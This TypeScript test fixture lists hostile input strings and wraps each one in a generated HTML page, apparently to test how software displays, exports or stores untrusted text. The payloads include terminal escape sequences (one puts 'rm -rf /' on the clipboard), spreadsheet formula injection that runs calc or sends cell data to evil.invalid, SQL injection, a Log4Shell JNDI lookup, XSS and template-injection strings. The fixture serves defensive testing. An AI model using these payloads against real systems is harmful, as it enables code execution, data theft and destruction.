import { fixed, type Hostility, html, page } from './hostility.js';

const ESC = '\x1b';

/** Texts that are made for whoever shows, exports or stores them. */
export const HOSTILE_TEXTS: readonly string[] = [
  // Terminals: colours, a cleared screen, a window title, a clipboard, a link, a bell, a C1 control, text turned round.
  `${ESC}[31mred${ESC}[2J${ESC}[H`,
  `${ESC}]0;owned\x07${ESC}]52;c;cm0gLXJmIC8=\x07`,
  `${ESC}]8;;http://evil.invalid\x07link${ESC}]8;;\x07`,
  '\x9b31m\x9d0;owned\x9c\x08\x08\x7f',
  '\u202egnp.exe\u2066\u200b\u00ad',
  'line one\rline two\nline three\tcolumn',
  // Spreadsheets.
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.invalid/?x="&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\uff1d1+1',
  'a,b;c\t"d"\r\n"e"',
  // Databases and patterns.
  "'; drop table page; --",
  '%_\\%',
  '$' + '{jndi:ldap://evil.invalid/x}',
  '(a+)+$',
  '__proto__',
  'constructor',
  // HTML and JSON.
  '</script><script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '&lt;b&gt; &#0; &#xd800; &amp;amp;',
  ']]></title><!--',
  '{{constructor.constructor("alert(1)")()}}',
  // Texts that programs trip over.
  'NULL',
  '',
  ' ',
  '\ufeff',
  '\ud83d\ude00'.repeat(300),
  'x'.repeat(100_000),
  'e\u0301'.repeat(2_000),
];

/** Every hostile text as title, description, heading, anchor, alt text, id, address and value of a page of its own. */
export const strings: Hostility = fixed(
  Object.fromEntries(HOSTILE_TEXTS.map((text, i) => [`/text/${i}`, html(hostilePage(text, i))])),
);

function hostilePage(text: string, i: number): string {
  const escaped = text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
  const address = `/text/${i}?${encodeURIComponent(text).slice(0, 500)}`;
  const body = `<h1>${escaped}</h1>
    <p id="${escaped}" class="${escaped}">${escaped}</p>
    <a href="${address}" rel="${escaped}">${escaped}</a>
    <a href="https://brand.sjv.io/c/1234567/1725213/17190?subId1=${encodeURIComponent(text).slice(0, 500)}">${escaped}</a>
    <img src="/missing.png" alt="${escaped}">
    <ins class="adsbygoogle" data-ad-client="${escaped}" data-ad-slot="${escaped}"></ins>`;
  const head = `<meta name="description" content="${escaped}"><link rel="canonical" href="${address}">`;
  return page(`${escaped}</title>${head}<title>`, [], body);
}
